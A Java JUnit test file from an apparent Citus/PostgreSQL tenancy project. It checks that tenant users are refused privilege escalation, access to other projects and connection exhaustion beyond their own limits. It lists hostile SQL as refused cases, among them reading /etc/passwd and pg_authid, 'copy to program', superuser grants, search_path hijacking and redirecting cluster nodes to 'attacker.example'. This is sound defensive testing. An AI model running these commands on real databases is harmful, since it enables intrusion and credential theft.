package org.citustenancy.attacks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.citustenancy.testing.TestCluster.bind;
import static org.citustenancy.testing.TestCluster.identifier;

import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Properties;
import java.util.TreeMap;
import org.citustenancy.CitusCluster;
import org.citustenancy.Project;
import org.citustenancy.embedded.EmbeddedNode;
import org.citustenancy.testing.Await;
import org.citustenancy.testing.RequiresCluster;
import org.citustenancy.testing.TestCluster;
import org.citustenancy.users.TableGrant;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** What an owner would need for more rights, and does not get; and what users cannot take from others. */
@Tag("asks-for-passwords")
@RequiresCluster
class RefusedObjectsTest {

    /** By what is refused, the states with which it is. */
    private static final Map<String, String> REFUSED = new TreeMap<>();

    static {
        for (String denied : List.of(
                "create event trigger fired on ddl_command_start execute function pg_catalog.suppress_redundant_updates_trigger()",
                "create extension dblink",
                "create extension postgres_fdw",
                "create extension file_fdw",
                "create foreign data wrapper own",
                "create language own handler pg_catalog.plpgsql_call_handler",
                "create text search template evil_template (lexize = pg_catalog.dsimple_lexize)",
                "create text search parser evil_parser (start = pg_catalog.prsd_start, gettoken = pg_catalog.prsd_nexttoken, "
                        + "end = pg_catalog.prsd_end, lextypes = pg_catalog.prsd_lextype)",
                "create type base (input = pg_catalog.int4in, output = pg_catalog.int4out)",
                "create operator class own for type integer using btree as operator 1 <",
                "create access method own type index handler pg_catalog.bthandler",
                "create function own() returns int language c as 'citus', 'citus_version'",
                "create function own() returns int language internal as 'pg_backend_pid'",
                "create subscription own connection 'host=127.0.0.1' publication p with (connect = false)",
                "create publication every for all tables",
                "copy (select 1) to program 'true'",
                "copy (select 1) to '/tmp/own'",
                "select pg_catalog.pg_read_file('postgresql.conf')",
                "select pg_catalog.lo_import('/etc/passwd')",
                "select pg_catalog.pg_create_logical_replication_slot('own', 'pgoutput')",
                "select * from pg_catalog.pg_authid",
                "select * from pg_catalog.pg_dist_authinfo",
                "update pg_catalog.pg_dist_node set nodename = 'attacker.example'",
                "alter system set work_mem = '1MB'",
                "set session_replication_role = replica",
                "set lc_messages = 'C'",
                "set log_statement = 'none'",
                "set session_preload_libraries = 'own'",
                "set session authorization postgres",
                "set role postgres",
                "create role own",
                "create database own",
                "grant pg_execute_server_program to current_user",
                "alter role current_user superuser",
                "alter role current_user createrole",
                "alter role current_user bypassrls",
                "alter role postgres set search_path = evil",
                "alter role all set search_path = evil",
                "alter database postgres set search_path = evil",
                "alter database template1 set search_path = evil",
                "select citus_add_node('attacker.example', 5432)",
                "select citus_set_coordinator_host('attacker.example', 5432)")) {
            REFUSED.put(denied, "42501");
        }
        // PostgreSQL accepts only its own functions there.
        REFUSED.put("create publication filtered for table plain where (evil.ran('publication', id))", "42P17 0A000");
        REFUSED.put("create conversion own for 'LATIN1' to 'UTF8' from evil.take_over", "42883 42P17");
        REFUSED.put("load 'own'", "42501 58P01");
        // PostgreSQL 17 has no such extension any more.
        REFUSED.put("create extension adminpack", "42501 0A000");
    }

    private final TestCluster nodes;

    RefusedObjectsTest(TestCluster nodes) {
        this.nodes = nodes;
    }

    @Test
    void owner_cannot_create_objects_that_others_run() throws Exception {
        try (CitusCluster cluster = nodes.connect()) {
            HostileProject hostile = HostileProject.named(nodes, TestCluster.unique("refused"));
            hostile.create(cluster);
            hostile.asOwner("create table plain (id bigint primary key)");
            List<String> otherwise = new ArrayList<>();
            for (EmbeddedNode node : nodes.embedded().nodes()) {
                for (Map.Entry<String, String> refused : REFUSED.entrySet()) {
                    String outcome = outcome(node, hostile, hostile.attacker(), refused.getKey());
                    boolean elsewhere = outcome.contains("operation is not allowed on this node")
                            || (node != nodes.embedded().coordinator() && outcome.startsWith("42P01"));
                    if (!elsewhere
                            && List.of(refused.getValue().split(" ")).stream().noneMatch(outcome::startsWith)) {
                        otherwise.add(node + ": " + refused.getKey() + ": " + outcome);
                    }
                }
            }
            assertThat(otherwise).isEmpty();
        }
    }

    private static String outcome(EmbeddedNode node, HostileProject project, String user, String sql)
            throws SQLException {
        try (Connection connection =
                DriverManager.getConnection(node.jdbcUrl(project.name()), user, HostileProject.PASSWORD.reveal())) {
            TestCluster.ask(connection, sql);
            return "done";
        } catch (SQLException failure) {
            return failure.getSQLState() + " " + failure.getMessage();
        }
    }

    @Test
    void session_with_the_internal_application_name_gains_no_privileges() throws Exception {
        try (CitusCluster cluster = nodes.connect()) {
            HostileProject hostile = HostileProject.named(nodes, TestCluster.unique("refused"));
            Project project = hostile.create(cluster);
            PayloadLog log = new PayloadLog(nodes);
            log.next();
            for (String user : List.of(hostile.attacker(), hostile.reader())) {
                Properties properties = new Properties();
                properties.put("user", user);
                properties.put("password", HostileProject.PASSWORD.reveal());
                properties.put("ApplicationName", "citus_internal gpid=10000000001");
                for (EmbeddedNode node : nodes.embedded().nodes()) {
                    try (Connection internal = DriverManager.getConnection(node.jdbcUrl(hostile.name()), properties)) {
                        TestCluster.ask(internal, "select evil.ran('internal session')");
                        assertThatThrownBy(() -> TestCluster.ask(internal, "select * from pg_dist_authinfo"))
                                .isInstanceOf(SQLException.class);
                    }
                }
            }
            hostile.assertNoPayloadRanAsMoreThanTheOwner(log.next());
            hostile.asOwner(
                    "create table afterwards (id bigint)", "select create_distributed_table('afterwards', 'id')");
            project.repair();
            assertThat(project.verify().findings()).isEmpty();
        }
    }

    @Test
    void user_exhausts_its_own_connections_only() throws Exception {
        String name = TestCluster.unique("exhausted");
        HostileProject hostile = HostileProject.named(nodes, name);
        List<Connection> taken = new ArrayList<>();
        try (CitusCluster cluster = nodes.connect()) {
            Project project = hostile.request(cluster)
                    .withTableUser(name + "_greedy", HostileProject.PASSWORD, options -> options.table(
                                    TableGrant.on("not_there_yet"))
                            .connectionLimit(5))
                    .connectionLimit(12)
                    .create();
            // The server counts a closed session until its process has ended.
            Await.until(() -> {
                hostile.tryToOpen(name + "_greedy").ifPresent(taken::add);
                return taken.size() == 5;
            });
            assertThatThrownBy(() -> taken.add(hostile.open(name + "_greedy")))
                    .isInstanceOfSatisfying(SQLException.class, full -> assertThat(full.getSQLState())
                            .isEqualTo("53300"));
            hostile.asOwner("select success from run_command_on_workers('select 1')");
            // Sessions of Citus between nodes come and go, and count, too.
            Await.until(() -> {
                Optional<Connection> next = hostile.tryToOpen(hostile.reader());
                next.ifPresent(taken::add);
                return next.isEmpty() && sessions(name) >= 12;
            });
            assertThat(taken.size()).isBetween(9, 12);
            Await.until(() -> {
                Optional<Connection> next = hostile.tryToOpen(hostile.attacker());
                next.ifPresent(taken::add);
                return next.isEmpty();
            });

            // The admin is not counted.
            assertThat(project.verify().findings())
                    .allSatisfy(finding -> assertThat(finding.toString()).doesNotContain("missing"));
            cluster.users().rotatePassword(name + "_greedy", HostileProject.PASSWORD);
            HostileProject other = HostileProject.named(nodes, TestCluster.unique("exhausted"));
            other.request(cluster).create().verify();
        } finally {
            for (Connection connection : taken) {
                connection.close();
            }
        }
    }

    private int sessions(String database) throws SQLException {
        return Integer.parseInt(nodes.ask(
                        "postgres",
                        "select count(*) from pg_stat_activity where datname = '" + database
                                + "' and backend_type = 'client backend'")
                .get(0));
    }

    @Test
    void user_of_another_project_is_refused() throws Exception {
        try (CitusCluster cluster = nodes.connect()) {
            HostileProject hostile = HostileProject.named(nodes, TestCluster.unique("refused"));
            HostileProject other = HostileProject.named(nodes, TestCluster.unique("refused"));
            hostile.create(cluster);
            other.create(cluster);
            for (EmbeddedNode node : nodes.embedded().nodes()) {
                for (String user : List.of(hostile.attacker(), hostile.reader())) {
                    assertThatThrownBy(() -> DriverManager.getConnection(
                                            node.jdbcUrl(other.name()), user, HostileProject.PASSWORD.reveal())
                                    .close())
                            .isInstanceOfSatisfying(SQLException.class, refused -> assertThat(refused.getSQLState())
                                    .isEqualTo("42501"));
                    for (String sql : List.of(
                            "alter database " + identifier(other.name()) + " set search_path = evil",
                            "grant connect on database " + identifier(other.name()) + " to public",
                            "grant " + identifier(other.attacker()) + " to " + identifier(user),
                            "alter role " + identifier(other.attacker()) + " set search_path = evil",
                            "alter role " + identifier(other.attacker()) + " password 'mine'",
                            bind(
                                    "select pg_terminate_backend(pid) from pg_stat_activity where datname = ?",
                                    other.name()))) {
                        // Citus 13.0 and older refuse on a worker before PostgreSQL looks at privileges.
                        assertThat(outcome(node, hostile, user, sql))
                                .as(user + ": " + sql)
                                .containsPattern("^42501|operation is not allowed on this node");
                    }
                }
            }
        }
    }
}
